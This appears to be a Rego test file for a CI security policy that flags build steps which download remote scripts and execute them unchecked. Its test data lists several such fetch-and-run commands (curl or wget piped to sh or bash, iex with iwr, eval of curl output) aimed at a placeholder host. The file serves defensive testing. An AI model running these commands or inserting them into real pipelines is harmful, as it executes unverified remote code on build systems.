package merlon.controls.build_download_test

import data.merlon.controls.build_download as c
import data.merlon.lib.build_kit as kit

passes(i) if {
	count(c.violation) == 0 with input as i
	count(c.unknown) == 0 with input as i
}

fails(i) if {
	count(c.violation) > 0 with input as i
	every v in c.violation { is_string(v.cause) } with input as i
}

test_good_files_pass if {
	passes(kit.workflow(kit.good))
	passes(kit.workflow({"on": "push", "permissions": {}, "jobs": {}}))
	passes(kit.action(kit.composite([kit.checkout, {"run": "make"}])))
	passes(kit.pipeline(kit.good_pipeline))
}

test_hostile_shapes_never_pass if {
	every shape in kit.hostile {
		count(c.unknown) > 0 with input as shape
	}
	every shape in kit.bad_pipelines {
		count(c.unknown) > 0 with input as kit.pipeline(shape)
	}
}

run(text) := kit.workflow(kit.on("push", [{"run": text}]))

test_what_runs_unseen_fails if {
	every text in [
		"curl -sSf https://x.example/i.sh | sh", "wget -qO- https://x.example | sudo -E bash -s -- -y",
		"curl -fsSL \\\n  https://x.example | \\\n  bash", "bash <(curl -s https://x.example)",
		"sh -c \"$(curl -fsSL https://x.example)\"", "curl https://x.example | python3 -",
		"source <(curl -s https://x.example)", "iex (iwr https://x.example)", "eval \"$(curl -s https://x.example)\"",
		"make\ncurl https://x.example | /bin/sh",
	] {
		fails(run(text))
		fails(kit.pipeline({"a": {"before_script": [["x", text]]}}))
		fails(kit.action(kit.composite([{"run": text}])))
	}
}

test_what_is_checked_first_passes if {
	every text in [
		"curl -o x https://x.example && sha256sum -c sums && sh x", "curl https://x.example | jq .",
		"curl https://x.example\nls | sh", "curl https://x.example | tee sh.txt", "echo | sh",
		"curl https://x.example | sha256sum -c",
	] {
		passes(run(text))
	}
}
